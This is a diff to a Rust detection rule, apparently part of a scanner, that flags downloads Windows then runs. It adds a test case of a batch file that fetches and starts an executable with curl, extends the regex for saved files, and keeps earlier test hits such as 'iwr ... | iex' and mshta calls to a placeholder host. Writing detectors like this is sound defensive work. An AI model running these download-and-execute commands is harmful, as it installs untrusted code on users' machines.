@@ -1,7 +1,7 @@
 //! Downloads that Windows runs.
 
 use crate::destination::classify;
-use crate::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
 use crate::unit::{ANYWHERE, Unit};
 
 pub(super) const RULE: Rule = Rule {
@@ -33,6 +33,7 @@ pub(super) const RULE: Rule = Rule {
         "cmstp",
         "hh.exe",
         "-outfile",
+        ".exe",
         "invoke-restmethod",
         "invoke-webrequest",
         "\\birm ",
@@ -42,6 +43,7 @@ pub(super) const RULE: Rule = Rule {
     hits: &[
         text("`iwr http://a.b/x.ps1 | iex`"),
         text("`irm a.b/x | iex`"),
+        file("x.bat", "curl -sL -o %TEMP%\\up.exe https://a.b/up\r\nstart \"\" %TEMP%\\up.exe\r\n"),
         text("`iex (iwr -useb https://a.b/x.ps1)`"),
         text("`IEX ((New-Object Net.WebClient).DownloadString('https://a.b/x'))`"),
         text("`mshta http://a.b/x.hta`"),
@@ -91,7 +93,7 @@ patterns! {
         r"|\bwmic(?:\.exe)?\s[^\n]{0,80}?/format:\s*['\x22]?https?:[^\n]{0,120}"
     );
     ADDRESS = r#"(?:h..ps?://|\b)[a-z0-9][a-z0-9.-]*\.[a-z]{2,}(?::[0-9]+)?(?:/[^\s"'`)|;]*)?"#;
-    SAVED = r"(?:-OutFile\s+|-Destination\s+|\.DownloadFile\([^,\n]{1,200},\s*)(?:\$env:\w+\s*\+\s*)?['\x22]?([^\s'\x22;)]{3,200})";
+    SAVED = r"(?:\bcurl(?:\.exe)?\s[^\n|;]{0,200}?(?:-o|--output)\s+|-OutFile\s+|-Destination\s+|\.DownloadFile\([^,\n]{1,200},\s*)(?:\$env:\w+\s*\+\s*)?['\x22]?([^\s'\x22;)]{3,200})";
     STARTS = r"(?:\b(?:start-process|invoke-item|saps|msiexec|powershell|pwsh|start|cmd|rundll32|regsvr32)\b[^\n;]{0,100}|&\s*['\x22]?[^\n;'\x22]{0,80}|^\s*\.?[\\/]?[^\n;'\x22\s]{0,60}|;\s*['\x22]?\.?[\\/]?[^\n;'\x22\s]{0,60})$";
     SCHEME = r#"h..ps?://[^\s"'`)|;]+"#;
 }
